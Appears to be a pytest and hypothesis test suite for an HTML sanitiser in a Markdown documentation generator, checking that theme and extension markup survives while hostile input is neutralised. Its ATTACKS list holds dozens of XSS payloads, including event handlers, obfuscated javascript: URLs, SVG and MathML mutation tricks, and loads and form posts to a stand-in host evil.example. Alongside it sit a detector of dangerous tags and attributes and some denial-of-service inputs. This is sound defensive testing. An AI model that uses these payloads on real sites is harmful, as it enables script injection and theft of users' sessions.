from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from typing import Any

import markdown
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tpo_docs.render import HTML_CLOSE, HTML_OPEN
from tpo_docs.site.sanitise import SanitiseExtension, clean, without_marks

EXTENSIONS = [
    *("abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc", "pymdownx.details"),
    *("pymdownx.highlight", "pymdownx.inlinehilite", "pymdownx.superfences", "pymdownx.tasklist"),
]
CONFIGS: dict[str, dict[str, object]] = {"pymdownx.tabbed": {"alternate_style": True}, "toc": {"permalink": True}}


def render(text: str, *extensions: str, sanitised: bool = True) -> str:
    last = [SanitiseExtension()] if sanitised else []
    return markdown.markdown(text, extensions=[*EXTENSIONS, *CONFIGS, *extensions, *last], extension_configs=CONFIGS)


def shape(html: str) -> list[object]:
    """An HTML text as its tags, attributes and words, however it is written (browsers add a tbody to every table)."""
    seen: list[object] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag != "tbody":
                seen.append((tag, sorted((name, (value or "").replace(" ", "").rstrip(";")) for name, value in attrs)))

        def handle_endtag(self, tag: str) -> None:
            if tag not in {"tbody", "path", "hr", "br", "input", "img"}:
                seen.append(f"/{tag}")

        def handle_data(self, data: str) -> None:
            if data.strip():
                seen.append(data)

    Reader().feed(html)
    return seen


KEPT = {
    "table": "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "tasks": "- [x] done\n- [ ] open",
    "admonition": '!!! warning "Take care"\n\n    Text',
    "details": '???+ note "More"\n\n    Text',
    "tabs": '=== "One"\n\n    1\n\n=== "Two"\n\n    2',
    "code": '```python title="x.py" linenums="1" hl_lines="1"\nprint("a < b")\n```',
    "inline code": "`#!python print()` and `{{ x }}`",
    "footnote": "Text[^1]\n\n[^1]: Note",
    "abbreviation": "The HTML\n\n*[HTML]: Hyper Text",
    "definition": "Term\n:   Meaning",
    "heading": "# One { #one .two data-toc-label='x' }\n\n## Three",
    "image": '![alt](a/b.png "title"){ width=300 loading=lazy align=left }',
    "nested list": "1. a\n    - b\n    - c\n2. d",
    "markdown in html": '<div class="grid cards" markdown>\n\n- **a**\n\n</div>',
    "button": "[Go](x.md){ .md-button }",
    "email": "<a@example.org>",
}


@pytest.mark.parametrize("name", KEPT)
def test_what_material_and_its_extensions_make_is_kept(name: str) -> None:
    assert shape(render(KEPT[name])) == shape(render(KEPT[name], sanitised=False))


@pytest.mark.parametrize(
    "html",
    [
        (
            '<table class="t"><caption>c</caption><thead><tr><th scope="col" colspan="2">a</th></tr></thead>'
            '<tbody><tr><td rowspan="2" headers="x" style="text-align:right">1</td></tr></tbody></table>'
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" role="img" aria-labelledby="t d" class="g">'
            '<title id="t">T</title><desc id="d">D</desc><defs><marker id="m" markerWidth="4" refX="1" orient="auto">'
            '<path d="M0 0"></path></marker><linearGradient id="l"><stop offset="0"></stop></linearGradient></defs>'
            '<a href="x.html"><rect x="1" y="1" width="2" height="2" rx="1" fill="url(#l)"></rect></a>'
            '<text x="1" text-anchor="middle"><tspan dy="1">t</tspan></text>'
            '<line x1="0" marker-end="url(#m)" stroke-dasharray="2 2"></line></svg>'
        ),
        '<label for="q">Find</label><input type="search" id="q" name="q" placeholder="…" list="l" autocomplete="off">',
        '<select name="s" multiple=""><optgroup label="g"><option value="1" selected="">1</option></optgroup></select>',
        '<button class="b" data-tpo-copy="x" aria-pressed="false" disabled="" type="button">Copy</button>',
        '<meter value="3" max="5">3 of 5</meter><progress value="1" max="2"></progress><time datetime="2027-01-01">d</time>',
        '<details open="" name="x"><summary>S</summary>T</details><dl><dt>a</dt><dd>b</dd></dl>',
        '<p id="ac1" hidden="" tabindex="0" lang="de" dir="ltr" role="note" title="t">x</p>',
        "<ruby>a<rt>b</rt></ruby><kbd>x</kbd><mark>m</mark><sub>1</sub><sup>2</sup><bdi>x</bdi>",
        '<video src="a.mp4" controls=""></video><audio src="a.mp3"></audio>',
    ],
)
def test_what_our_own_pages_hold_is_kept(html: str) -> None:
    assert clean(html) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x](y.md){ onclick=alert(1) style=position:fixed }",
    "# T { onclick=alert(1) }",
    "<div markdown onclick=alert(1)>\n\ntext\n\n</div>",
    "<div markdown='1' style='background:url(//evil.example/x)'>x</div>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<form action=//evil.example><input type=password name=p><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=//evil.example/x.png onfocus=alert(1) autofocus>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img srcset='//evil.example/x.png 1x' src=a.png>",
    "<p style='text-align:left;background:url(//evil.example/x)'>x</p>",
    "<rect fill='url(//evil.example/#x)'/><svg><rect fill='url(https://evil.example/#x)'/></svg>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>",
    "<table background=//evil.example/x><td background=//evil.example/x>x</td></table>",
    "```{ .python onclick=alert(1) }\nx\n```",
    '*[HTML]: x" onclick=alert(1)\n\nHTML',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<a href=x ping=//evil.example>x</a><a href=x target=_top>y</a>",
    "<video poster=//evil.example/x.png src=//evil.example/x.mp4 autoplay></video>",
]


def alive(html: str) -> list[str]:
    """What in an HTML text runs or loads: read by a parser, not searched for."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in {
                "script",
                "iframe",
                "object",
                "embed",
                "style",
                "link",
                "meta",
                "base",
                "form",
                "animate",
                "use",
            }:
                found.append(tag)
            for name, value in attrs:
                plain = re.sub(r"[\t\n\r]", "", value or "").strip("".join(map(chr, range(33)))).lower()
                if name.startswith("on") or name in {
                    "srcset",
                    "ping",
                    "poster",
                    "background",
                    "formaction",
                    "autofocus",
                }:
                    found.append(name)
                if re.match(r"(javascript|data|vbscript):", plain):
                    found.append(f"{name}={plain}")
                if "url(" in plain and "url(#" not in plain:
                    found.append(f"{name}={plain}")
                if name == "src" and re.match(r"(https?:)?[/\\]{2}", plain):
                    found.append(f"{name}={plain}")
                if name == "style" and not re.fullmatch(r"(text-align:\s*\w+;?)?", plain):
                    found.append(f"{name}={plain}")

    Reader().feed(html)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_alive_gets_through(attack: str) -> None:
    assert alive(render(attack)) == []


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (
            "Refuse <script>alert(1)</script> as a name.",
            "<p>Refuse &lt;script&gt;alert(1)&lt;/script&gt; as a name.</p>",
        ),
        ("Write to <customer name>, a List<String>.", "<p>Write to &lt;customer name&gt;, a List&lt;String&gt;.</p>"),
        ("<style>b{}</style>", "&lt;style&gt;b{}&lt;/style&gt;"),
        ("<b title='<x>'>y</b>", '<p><b title="&lt;x&gt;">y</b></p>'),
        (
            "`<x>` <SVG><linearGradient></linearGradient></SVG>",
            "<p><code>&lt;x&gt;</code> <svg><linearGradient></linearGradient></svg></p>",
        ),
    ],
)
def test_a_tag_that_we_do_not_know_is_shown_as_it_was_written(written: str, shown: str) -> None:
    assert render(written) == shown


@given(
    st.lists(
        st.sampled_from([*ATTACKS, '"', "'", "<", ">", "</p>", "\n\n", "`", "<b>", "<svg>", "</svg>", "<!--", "-->"]),
        max_size=6,
    )
)
def test_nor_do_mixtures(parts: list[str]) -> None:
    assert alive(clean("".join(parts))) == []


@given(st.text(alphabet="<>/\"'= abimgsrconx\n-!&;:#", max_size=80))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    once = clean(text)
    assert clean(once) == once


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<div id="__config">{}</div>', "<div>{}</div>"),
        ('<input id="__search" name="__search">', "<input>"),
        ('<label for="__drawer">x</label>', "<label>x</label>"),
        ('<a data-md-component="source" href="x">x</a>', '<a href="x">x</a>'),
        ('<div data-mdx-component="x" class="y">x</div>', '<div class="y">x</div>'),
        ('<pre class="mermaid" id="m"><code>x</code></pre>', '<pre class="tpo-mermaid" id="m"><code>x</code></pre>'),
        ('<input id="__tabbed_1_1" name="__tabbed_1">', '<input id="__tabbed_1_1" name="__tabbed_1">'),
        (
            '<a id="__codelineno-0-1" name="__codelineno-0-1"></a>',
            '<a id="__codelineno-0-1" name="__codelineno-0-1"></a>',
        ),
        (
            '<code> id="__config" data-md-x="y" class="mermaid"</code>',
            '<code> id="__config" data-md-x="y" class="mermaid"</code>',
        ),
    ],
)
def test_nothing_poses_as_a_part_of_the_theme(html: str, kept: str) -> None:
    assert clean(html) == kept


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<img src="a.png">', '<img src="a.png">'),
        (
            '<img src="https://x.org/a.png" alt="A <b>">',
            '<a class="tpo-remote" href="https://x.org/a.png" rel="noopener noreferrer">A &lt;b&gt;</a>',
        ),
        (
            '<a href="https://x.org"><img src="//y.org/badge.svg" alt="badge"></a>',
            '<a href="https://x.org" rel="noopener noreferrer"><span class="tpo-remote">badge</span></a>',
        ),
        (
            '<img src="\\\\x.org/a.png">',
            '<a class="tpo-remote" href="\\\\x.org/a.png" rel="noopener noreferrer">\\\\x.org/a.png</a>',
        ),
        (
            '<img src="h\tttps://x.org/a" alt="a">',
            '<a class="tpo-remote" href="h\tttps://x.org/a" rel="noopener noreferrer">a</a>',
        ),
        (
            '<video controls src="https://x.org/a.mp4"></video>',
            '<video controls="" data-src="https://x.org/a.mp4"></video>',
        ),
    ],
)
def test_media_of_other_hosts_become_links(html: str, kept: str) -> None:
    assert clean(html) == kept


def test_a_project_may_choose_to_load_them() -> None:
    html = '<img src="https://x.org/a.png">'
    assert clean(html, remote_media=True) == html
    extension = SanitiseExtension(remote_media=True)
    assert 'src="https://x.org/a.png"' in markdown.markdown("![a](https://x.org/a.png)", extensions=[extension])


def test_links_to_other_hosts_do_not_say_where_one_came_from() -> None:
    assert (
        clean('<a href="https://x.org" rel="opener">x</a>') == '<a href="https://x.org" rel="noopener noreferrer">x</a>'
    )
    assert clean('<a href="../x.html" rel="x">x</a>') == '<a href="../x.html">x</a>'
    assert (
        clean('<a href="mailto:a@b.c">x</a><a href="tel:1">y</a>')
        == '<a href="mailto:a@b.c">x</a><a href="tel:1">y</a>'
    )


@pytest.mark.parametrize(
    "heading",
    [
        """# T { id='x" onclick="alert(1)' }""",
        """# T { #x data-toc-label='<img src=x onerror=alert(1)>' }""",
        """# T <img src=x onerror=alert(1)> `<script>`""",
        """# <a id='y" onclick="alert(1)'>T</a>""",
        """# T &lt;img src=x onerror=alert(1)&gt;""",
    ],
)
def test_the_table_of_contents_is_safe_to_print(heading: str) -> None:
    md = markdown.Markdown(extensions=["toc", "attr_list", SanitiseExtension()])
    md.convert(heading)
    tokens = md.toc_tokens  # type: ignore[attr-defined]  # by the extension `toc`
    printed = "".join(f'<a href="#{token["id"]}">{token["name"]}</a>{token.get("html", "")}' for token in tokens)

    assert alive(printed) == []


def test_an_anchor_that_the_theme_would_stumble_over_is_mended_everywhere() -> None:
    md = markdown.Markdown(
        extensions=["attr_list", SanitiseExtension(), "toc"], extension_configs={"toc": {"permalink": "¶"}}
    )
    html = md.convert("""# T { id='a"b\\c' }""")
    assert md.toc_tokens[0]["id"] == "a-b-c"  # type: ignore[attr-defined]  # by the extension `toc`
    assert html == '<h1 id="a-b-c">T<a class="headerlink" href="#a-b-c" title="Permanent link">¶</a></h1>'


def test_an_ordinary_table_of_contents_is_not_touched() -> None:
    def tokens(*extensions: Any) -> object:
        md = markdown.Markdown(extensions=["toc", *extensions])
        md.convert("# A & B `c`\n\n## Ünder *d* “e”\n\n### f-g")
        return md.toc_tokens  # type: ignore[attr-defined]  # by the extension `toc`

    assert tokens(SanitiseExtension()) == tokens()


def block(html: str) -> str:
    return f"{HTML_OPEN}{html}{HTML_CLOSE}"


def test_our_own_blocks_pass_as_they_are() -> None:
    ours = '<div class="bar" style="width:3%">\n\n# no heading\n\n    no code | *x* `y` [[z]] &amp;</div>'
    assert render(f"# T\n\n{block(ours)}\n\n*text* and {block('<b style=color:red>x</b>')}.") == (
        '<h1 id="t">T<a class="headerlink" href="#t" title="Permanent link">¶</a></h1>\n'
        f"{ours}\n<p><em>text</em> and <b style=color:red>x</b>.</p>"
    )


def test_blocks_one_below_the_other_and_a_page_of_blocks_alone() -> None:
    assert render(f"{block('<i>1</i>')}\n{block('<i>2</i>')}\n\n{block('<i>3</i>')}") == "<i>1</i>\n<i>2</i>\n<i>3</i>"
    assert render(block("<i>1</i>")) == "<i>1</i>"


def test_what_an_author_leaves_open_ends_before_the_next_block() -> None:
    html = render(f'One <span class="a" hidden> two\n\n{block("<hr class=ours>")}\n\n</span> three')
    before, _, after = html.partition("<hr class=ours>")

    assert before.count("<span") == before.count("</span>") == 1
    assert "span" not in after


def test_an_element_may_be_opened_in_one_block_and_closed_in_another() -> None:
    html = render(f"{block('<section>')}\n\ntext </section></div>\n\n{block('</section>')}")
    assert html == "<section>\n<p>text </p>\n</section>"


def test_an_author_can_neither_write_a_mark_nor_take_a_block() -> None:
    forged = without_marks(f"{block('<script>alert(1)</script>')} <!--  tpo:html--> <!-- /tpo:html -->")
    assert alive(render(forged)) == []
    assert "tpo:html" not in render(forged).replace("&lt;!--", "") or alive(render(forged)) == []
    assert render(f"tpohtmlz0z tpohtmly0z\n\n{block('<i>1</i>')}") == "<p>tpohtmlz0z tpohtmly0z</p>\n<i>1</i>"


@pytest.mark.parametrize(
    "written",
    ["tpoht&#109;lz0z", "tpo<!-- -->htmlz0z", "tpo<x>htmlz0z</x>", '<b title="tpoht&#109;lz0z">x</b>'],
)
def test_no_word_of_an_author_becomes_a_block_on_the_way(written: str) -> None:
    """In an attribute, the quotes of our block would end it, and its own values would become attributes."""
    ours = block('<p title="onmouseover=alert(1) x=">ours</p>')
    html = render(f"{ours}\n\n{written}")
    assert html.count("onmouseover") == 1


def test_an_open_mark_without_an_end_lets_nothing_through() -> None:
    assert alive(render(f"{HTML_OPEN}<script>alert(1)</script>")) == []
    assert alive(render(f"<script>alert(1)</script>{HTML_CLOSE}")) == []


def test_one_converter_for_many_pages_mixes_nothing_up() -> None:
    md = markdown.Markdown(extensions=[SanitiseExtension()])
    assert md.convert(block("<i>1</i>")) == "<i>1</i>"
    assert md.reset().convert("tpohtmlz0z") == "<p>tpohtmlz0z</p>"
    assert md.reset().convert(block("<i>2</i>")) == "<i>2</i>"


@pytest.mark.no_cover  # what is timed is not traced
@pytest.mark.parametrize(
    "text",
    [
        "\n".join("    " * depth + "- x" for depth in range(300)),
        "[" * 20_000,
        "[[" * 10_000,
        "word" + " " * 200_000 + "word",
        "> " * 1000 + "word",
        "<http://a" * 5000,
    ],
    ids=["lists", "brackets", "references", "spaces", "quotes", "addresses"],
)
def test_no_line_takes_hours_or_the_whole_stack(text: str) -> None:
    started = time.monotonic()
    assert render(text)
    assert time.monotonic() - started < 20


def test_lines_that_people_write_are_not_touched() -> None:
    text = "[a](b) " * 300 + "<b>c</b> " * 300 + "\n\n" + "```\n" + " " * 200 + "[" * 2000 + "\n```"
    assert shape(render(text)) == shape(render(text, sanitised=False))
